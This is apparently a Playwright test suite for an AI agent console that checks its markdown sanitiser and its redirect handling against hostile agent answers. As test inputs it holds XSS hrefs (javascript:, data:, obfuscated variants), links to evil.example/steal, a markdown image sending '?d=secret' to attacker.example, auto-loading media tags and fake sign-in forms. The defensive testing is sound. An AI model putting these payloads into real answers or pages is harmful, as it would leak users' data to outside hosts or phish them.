import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, inject, it } from 'vitest';
import { createAgentServer } from '../../dev/agent/create-agent-server.ts';
import { chromiumForFile } from '../support/chromium.ts';
import { resetConfigJson, setConfigJson } from '../support/config-json.ts';
import { answerWhenSettled, lastAnswer, messageBox, send, signIn } from '../support/console-page.ts';
import { type Loopback, openRendererPage, startRecorder } from './hostile-servers.ts';

const stack = inject('stack');
const browser = chromiumForFile(stack.chromePath);

/** Requests the page itself started towards `origin`, and CSP violations it reported: both must stay empty. */
function watchOutgoing(page: Page, origin: string) {
  const requests: string[] = [];
  page.on('request', (request) => {
    if (request.url().startsWith(origin)) requests.push(`${request.method()} ${request.url()}`);
  });
  return requests;
}

let recorder: Loopback;
beforeAll(async () => {
  recorder = await startRecorder();
});
afterAll(async () => {
  await recorder.close();
});

describe('the markdown renderer in Chromium', () => {
  let harness: Loopback;
  let page: Page;

  beforeAll(async () => {
    ({ harness, page } = await openRendererPage(browser));
  });
  afterAll(async () => {
    await harness.close();
  });

  /** Puts the output of renderMarkdown (the whole renderer) or sanitizeHtml (its DOMPurify layer) into the body. */
  async function show(stage: 'renderMarkdown' | 'sanitizeHtml', input: string) {
    await page.evaluate(
      ([name, text]) => {
        const stages = window as unknown as Record<string, (text: string) => string>;
        document.body.innerHTML = stages[name](text);
      },
      [stage, input] as const,
    );
    return page.locator('body');
  }
  const render = (markdown: string) => show('renderMarkdown', markdown);
  const sanitize = (html: string) => show('sanitizeHtml', html);
  const hrefs = () => page.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href')));
  const elementNames = () => page.locator('body *').evaluateAll((elements) => [...new Set(elements.map((element) => element.localName))]);

  it.each([
    ['javascript:', '[x](javascript:alert(1))'],
    ['data:', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['vbscript:', '[x](vbscript:msgbox(1))'],
    ['JavaScript: in an autolink', '<JavaScript:alert(1)>'],
  ])('drops a markdown %s link, keeping its text', async (_name, markdown) => {
    const body = await render(markdown);
    expect(await page.locator('a[href]').count()).toBe(0);
    expect(await body.textContent()).not.toBe('');
  });

  it.each([
    ['javascript:', '<a href="javascript:alert(1)">x</a>'],
    ['java<TAB>script:', '<a href="java\tscript:alert(1)">x</a>'],
    ['an entity-encoded tab', '<a href="java&#9;script:alert(1)">x</a>'],
    ['leading spaces and upper case', '<a href="  JavaScript:alert(1)">x</a>'],
    ['data:', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
    ['vbscript:', '<a href="vbscript:msgbox(1)">x</a>'],
    ['blob:', '<a href="blob:https://a/b">x</a>'],
  ])('the HTML layer drops a %s href, keeping the text', async (_name, html) => {
    const body = await sanitize(html);
    expect(await hrefs()).toEqual([null]);
    expect(await body.textContent()).toBe('x');
  });

  it.each([
    ['//evil.example/steal', 'http://evil.example/steal'],
    ['/\\evil.example/steal', 'http://evil.example/steal'],
    ['/\t/evil.example/steal', 'http://evil.example/steal'],
  ])('reads %j as the other origin it is: an absolute link, opened in a new tab', async (href, absolute) => {
    await sanitize(`<a href="${href}">docs</a>`);
    const link = page.locator('a');
    expect(await link.getAttribute('href')).toBe(absolute);
    expect(await link.getAttribute('target')).toBe('_blank');
    expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
    await render('[docs](//evil.example/steal)');
    expect(await hrefs()).toEqual(['http://evil.example/steal']);
  });

  it('keeps https, http, mailto and relative links, each absolute and opening a new tab without referrer', async () => {
    await render('[a](https://example.com/docs) [b](http://example.com/) [c](mailto:ops@example.com) [d](/debugger)');
    expect(await hrefs()).toEqual(['https://example.com/docs', 'http://example.com/', 'mailto:ops@example.com', `${harness.url}/debugger`]);
    const targets = await page.locator('a').evaluateAll((links: HTMLAnchorElement[]) => links.map((link) => `${link.target} ${link.rel}`));
    expect(new Set(targets)).toEqual(new Set(['_blank noopener noreferrer']));
  });

  it('turns a markdown image into a link naming its host; an image with a bad URL into text', async () => {
    await render('![the chart](https://attacker.example/pixel.png?d=secret)');
    expect(await page.locator('img').count()).toBe(0);
    const link = page.getByRole('link', { name: 'Image: the chart (attacker.example)' });
    expect(await link.getAttribute('href')).toBe('https://attacker.example/pixel.png?d=secret');
    expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
    const body = await render('![x](javascript:alert(1))');
    expect(await page.locator('a, img').count()).toBe(0);
    expect(await body.textContent()).toContain('[image removed: x]');
  });

  const LOADS_BY_ITSELF = [
    '<img src="https://a.example/1" srcset="https://a.example/2 2x">',
    '<audio autoplay src="https://a.example/3"><source src="https://a.example/4"><track src="https://a.example/5"></audio>',
    '<video poster="https://a.example/6" src="https://a.example/7"></video>',
    '<picture><source srcset="https://a.example/8"><img src="https://a.example/9"></picture>',
    '<table background="https://a.example/10"><tr><td background="https://a.example/11">cell</td></tr></table>',
    '<style>p { background: url(https://a.example/12) }</style><p style="background:url(https://a.example/13)">text</p>',
    '<link rel="stylesheet" href="https://a.example/14"><object data="https://a.example/15"></object><embed src="https://a.example/16">',
    '<input type="image" src="https://a.example/17"><svg><image href="https://a.example/18"/></svg>',
  ].join('\n');

  it('shows raw HTML in an answer as text: no element of it is created', async () => {
    const body = await render(LOADS_BY_ITSELF);
    expect(await elementNames()).toEqual(['p']);
    expect(await body.textContent()).toContain('<audio autoplay src="https://a.example/3">');
    expect(await render('a line<br>break, | and <br/> in | a table |')).toBeTruthy();
    expect(await page.locator('br').count()).toBe(2);
  });

  it('the HTML layer removes every element and attribute that loads by itself', async () => {
    const body = await sanitize(LOADS_BY_ITSELF);
    expect((await elementNames()).sort()).toEqual(['p', 'table', 'tbody', 'td', 'tr']);
    expect(await body.innerHTML()).not.toContain('a.example');
    expect(await body.textContent()).toContain('cell');
  });

  it('the HTML layer drops class, id, role and aria-*, keeping only the language of a code block', async () => {
    await sanitize('<p class="failure notice" id="chat-log" role="alert" aria-label="Sign in">fake</p>');
    expect(await page.locator('p').evaluate((element) => element.attributes.length)).toBe(0);
    await sanitize('<code class="language-js copy-code">x</code><span class="language-js">y</span>');
    expect(await page.locator('[class]').evaluateAll((elements) => elements.map((element) => element.outerHTML))).toEqual([
      '<code class="language-js">x</code>',
    ]);
    await render('```ts\nconst a = 1;\n```');
    expect(await page.locator('code').getAttribute('class')).toBe('language-ts');
  });

  it('the HTML layer removes forms, controls, dialogs, image maps and details, keeping their text inert', async () => {
    const body = await sanitize(
      [
        '<form action="https://a.example/"><input name="password" placeholder="Password"><button>Sign in</button>',
        '<textarea>t</textarea><select><option>o</option></select></form>',
        '<dialog open>Your session expired</dialog>',
        '<map name="m"><area href="https://a.example/" shape="rect"></map>',
        '<details open><summary>Called get_weather</summary>fake tool</details>',
      ].join(''),
    );
    expect(await elementNames()).toEqual([]);
    expect(await body.textContent()).toContain('Your session expired');
  });

  it('renders GFM task lists without form controls', async () => {
    await render('- [x] done\n- [ ] open');
    expect(await page.locator('input').count()).toBe(0);
    expect(await page.locator('li').allTextContents()).toEqual(['☑ done', '☐ open']);
  });

  it('never fetched anything from the addresses in the rendered content', async () => {
    // The content of the tests above, rendered here again: whatever of it loads by itself would load now.
    for (const content of [
      LOADS_BY_ITSELF,
      '[a](https://example.com/docs) [b](http://example.com/) [c](mailto:ops@example.com) [d](/debugger)',
      '![the chart](https://attacker.example/pixel.png?d=secret)',
    ]) {
      await render(content);
      await sanitize(content);
    }
    // Two frames rendered: the elements the content made are in the document, and any load they start has started.
    await page.evaluate(() => new Promise<void>((resolve) => requestAnimationFrame(() => requestAnimationFrame(() => resolve()))));
    expect(harness.hits).toEqual(['GET /', 'GET /harness.js']);
  });
});

describe('hostile answers in the console', () => {
  let page: Page;
  let pageRequests: string[];

  // Each test has a tab of its own, signed in as alice, its requests to the recorder and its CSP violations noted.
  beforeEach(async () => {
    const context = await browser.newContext();
    await context.addInitScript(() => {
      const violations: string[] = [];
      (window as unknown as { cspViolations: string[] }).cspViolations = violations;
      document.addEventListener('securitypolicyviolation', (event) => violations.push(`${event.violatedDirective} ${event.blockedURI}`));
    });
    page = await context.newPage();
    pageRequests = watchOutgoing(page, recorder.url);
    await page.goto(`${stack.consoleUrl}/`);
    await signIn(page, stack.consoleUrl);
  });
  afterEach(() => page.context().close());

  it('an answer with images, autoplaying audio, a video poster and backgrounds loads nothing; the image is a link', async () => {
    await send(page, `/hostile-media ${recorder.url}`);
    expect(await answerWhenSettled(page)).toContain('The end of the hostile media.');
    // Anything the answer started would have been requested before the next call, which goes out after it rendered.
    await send(page, '/help');
    await answerWhenSettled(page);
    expect(pageRequests).toEqual([]);
    expect(recorder.hits).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { cspViolations: string[] }).cspViolations)).toEqual([]);

    const answer = page.getByRole('log').locator('article.message.agent').nth(-2);
    expect(await answer.locator('img, audio, video, picture, source, track, style, link, object, embed, input, [style]').count()).toBe(0);
    const host = new URL(recorder.url).host;
    const image = answer.getByRole('link', { name: `Image: the quarterly chart (${host})` });
    expect(await image.getAttribute('href')).toBe(`${recorder.url}/markdown-image.png?d=conversation-secret`);
    expect(await image.getAttribute('target')).toBe('_blank');
    expect(await image.getAttribute('rel')).toBe('noopener noreferrer');
    expect(await answer.textContent()).toContain('a table cell');
  });

  it("an answer dressed up as the console keeps its text but none of the console's look or controls", async () => {
    await send(page, '/imitate');
    expect(await answerWhenSettled(page)).toContain('The end of the imitation.');
    const answer = lastAnswer(page);
    expect(
      // Inside the console's own block wrappers, only what the agent wrote survives.
      await answer.locator('.markdown-block *').evaluateAll((elements) => [...new Set(elements.map((element) => element.localName))]),
    ).toEqual(['h1', 'p', 'a']);
    // The answer's own controls are the console's ("Events (N)", below its text); none comes from the agent.
    expect(await answer.locator('.markdown').getByRole('button').count()).toBe(0);
    expect(await answer.getByRole('button').allTextContents()).toEqual([expect.stringMatching(/^Events \(\d+\)$/)]);
    expect(await answer.locator('.markdown-block [class]').count()).toBe(0);
    expect(await answer.textContent()).toContain('Your session expired. Enter your password below.');
    const links = await answer
      .locator('a')
      .evaluateAll((elements: HTMLAnchorElement[]) => elements.map((link) => `${link.href} ${link.target} ${link.rel}`));
    // marked percent-encodes the backslash, which keeps that link on the console's own origin; both open a new tab.
    expect(links).toEqual([
      'http://attacker.example/path _blank noopener noreferrer',
      `${stack.consoleUrl}/%5Cattacker.example/path _blank noopener noreferrer`,
    ]);
  });

  it('a code block whose copy fails says "Could not copy"', async () => {
    await send(page, '/help');
    await answerWhenSettled(page);
    const copy = lastAnswer(page).getByRole('button', { name: 'Copy code' });
    // As on a plain-http deployment, where browsers offer no clipboard at all.
    await page.evaluate(() => Object.defineProperty(navigator, 'clipboard', { value: undefined, configurable: true }));
    await copy.click();
    await lastAnswer(page).getByRole('button', { name: 'Could not copy' }).waitFor();
    await lastAnswer(page).getByRole('button', { name: 'Copy code' }).waitFor();
    // As when the browser refuses the write (no permission, no focus).
    await page.evaluate(() =>
      Object.defineProperty(navigator, 'clipboard', {
        value: { writeText: () => Promise.reject(new DOMException('Write permission denied.', 'NotAllowedError')) },
        configurable: true,
      }),
    );
    await lastAnswer(page).getByRole('button', { name: 'Copy code' }).click();
    await lastAnswer(page).getByRole('button', { name: 'Could not copy' }).waitFor();
  });

  it('a streamed answer past 4 MiB is cut: its start stays, and the answer says where it was cut', async () => {
    await send(page, '/huge');
    const text = await answerWhenSettled(page, 60_000);
    expect(await lastAnswer(page).getAttribute('data-status')).toBe('error');
    expect(text).toContain('The start of a huge answer.');
    expect(text).toContain('The answer was cut at 4 MiB: the console stopped the call there, so the text above is partial.');
    expect(text).not.toContain('The end of the huge answer.');
    expect(await page.getByRole('button', { name: 'Send' }).isVisible()).toBe(true);
  });

  it('a 500 whose body never ends still shows the error', async () => {
    await send(page, '/hang-error');
    const text = await answerWhenSettled(page);
    expect(text).toContain('HTTP 500');
    expect(text).toContain('This error body never ends');
  });
});

describe('a redirecting agent endpoint', () => {
  afterEach(() => {
    resetConfigJson(stack.distDir);
  });

  it('is not followed: the prompt and the token go nowhere else, and the answer says why', async () => {
    const target = `${recorder.url}/stolen`;
    const movedAgent = await createAgentServer({
      port: 0,
      auth: { discoveryUrl: `${stack.issuer}/.well-known/openid-configuration`, allowedClients: [stack.clientId] },
      corsOrigins: [stack.consoleUrl],
      audit: () => {},
      redirectInvokeTo: target,
    });
    try {
      setConfigJson(stack.distDir, { AGENT_ENDPOINT: movedAgent.url });
      const page = await (await browser.newContext()).newPage();
      await page.goto(`${stack.consoleUrl}/`);
      await signIn(page, stack.consoleUrl);
      await send(page, 'a confidential prompt');
      const text = await answerWhenSettled(page);
      expect(text).toContain(
        `The agent endpoint ${movedAgent.url}/invoke answered with a redirect; the console does not follow redirects for /invoke, so your prompt and token are not sent elsewhere.`,
      );
      expect(recorder.hits).toEqual([]);
      expect(await messageBox(page).inputValue()).toBe('a confidential prompt');
    } finally {
      await movedAgent.close();
    }
  });
});
